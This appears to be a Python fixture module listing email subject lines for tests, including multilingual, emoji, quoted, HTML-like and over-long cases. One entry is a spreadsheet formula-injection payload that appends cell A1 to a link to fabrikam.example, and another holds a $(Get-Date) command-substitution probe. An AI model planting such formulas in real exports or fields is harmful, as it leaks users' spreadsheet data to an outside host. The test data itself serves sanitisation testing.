"""What people write in a subject line, the awkward ones included.  Pure."""

LONG = "Re: " * 60 + "minutes of the last meeting"
"""Longer than the 255 characters that many columns and file names hold."""

SUBJECTS = (
    "Quarterly report",
    "Re: Lunch on Thursday?",
    "Invoice 2026-0815",
    "Fwd: Travel expenses",
    'Offer for "Aquarium", room 4, north',
    "",
    "見積書のご送付",
    "Срочно: счёт на оплату",
    "عرض السعر",
    "Größenänderung für Müller & Söhne",
    '=HYPERLINK("https://fabrikam.example/?a="&A1,"Open")',
    "+49 30 1234567 called back",
    "@all: fire drill",
    "-- no subject --",
    "Semicolons; tabs\tand, commas",
    "It's O'Brien's turn",
    "100 % off $(Get-Date) `now`",
    "👩‍💻 Welcome aboard! 🎉",
    "<b>Not</b> HTML &amp; not a tag",
    LONG,
)
